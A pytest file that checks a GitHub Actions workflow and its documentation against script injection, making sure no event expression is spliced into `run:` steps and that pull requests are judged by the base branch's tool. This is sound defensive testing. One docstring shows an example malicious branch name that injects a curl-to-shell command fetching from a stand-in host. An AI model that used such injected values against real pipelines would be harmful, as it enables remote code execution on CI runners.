"""The shipped GitHub workflow follows the security model (docs/security.md): no event field is pasted
into a script, and a pull request is judged by the base branch's tool."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).parents[2]
WORKFLOW = ROOT / ".github" / "workflows" / "fes-docs.yml"


def steps() -> list[dict[str, Any]]:
    doc = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    return [s for job in doc["jobs"].values() for s in job["steps"]]


def test_no_expression_is_spliced_into_a_script() -> None:
    """Attack: a branch named `x";curl evil|sh;"` would run if `${{ github.base_ref }}` sat in `run:`."""
    scripts = [s["run"] for s in steps() if "run" in s]
    assert scripts and not [r for r in scripts if "${{" in r], scripts


def test_the_docs_snippet_splices_nothing_either() -> None:
    for page in ("docs/workflows/ci.md", "docs/security.md"):
        text = (ROOT / page).read_text(encoding="utf-8")
        runs = re.findall(r"^\s*run: (.*)$", text, flags=re.M)
        assert runs and not [r for r in runs if "${{" in r], (page, runs)


def test_a_pull_request_is_judged_by_the_base_branch_tool() -> None:
    all_steps = steps()
    gate = [s for s in all_steps if s.get("with", {}).get("ref") == "${{ github.event.pull_request.base.sha }}"]
    assert len(gate) == 1 and gate[0]["if"] == "github.event_name == 'pull_request'"
    path = gate[0]["with"]["path"]
    install = next(s for s in all_steps if s.get("name") == "Install fes-docs")
    assert f"./{path}[site]" in install["run"]
    # the gate is installed before anything runs it
    order = [s.get("name") or s.get("run", "") for s in all_steps]
    assert order.index("Install fes-docs") < order.index("fes-docs validate --format github")


def _run_scripts(text: str) -> list[str]:
    """Every ``run:`` script of the YAML shown on a page, block scalars (``run: |``) included."""
    scripts: list[str] = []
    lines = text.splitlines()
    for i, line in enumerate(lines):
        m = re.match(r"^(\s*)(?:- )?run: ?(.*)$", line)
        if not m:
            continue
        indent, value = len(m.group(1)), m.group(2)
        if value.strip() in ("|", ">", "|-", ">-"):
            body = []
            for nxt in lines[i + 1 :]:
                if nxt.strip() and len(nxt) - len(nxt.lstrip()) <= indent:
                    break
                body.append(nxt)
            value = "\n".join(body)
        scripts.append(value)
    return scripts


def test_no_workflow_snippet_in_the_docs_splices_an_expression_into_a_script() -> None:
    """Every page, block scripts too: the deploy gate's jobs pass inputs through `env:`, never `${{ }}`."""
    pages = sorted((ROOT / "docs").rglob("*.md"))
    found = {p.relative_to(ROOT).as_posix(): _run_scripts(p.read_text(encoding="utf-8")) for p in pages}
    assert found["docs/workflows/deploy-gate.md"], "the deploy gate's workflow has scripts"
    spliced = {page: [s for s in scripts if "${{" in s] for page, scripts in found.items()}
    assert {page: bad for page, bad in spliced.items() if bad} == {}


def test_the_script_reader_sees_block_scripts() -> None:
    text = "    steps:\n      - name: x\n        run: |\n          echo ${{ github.head_ref }}\n      - run: ok\n"
    assert _run_scripts(text) == ["          echo ${{ github.head_ref }}", "ok"]
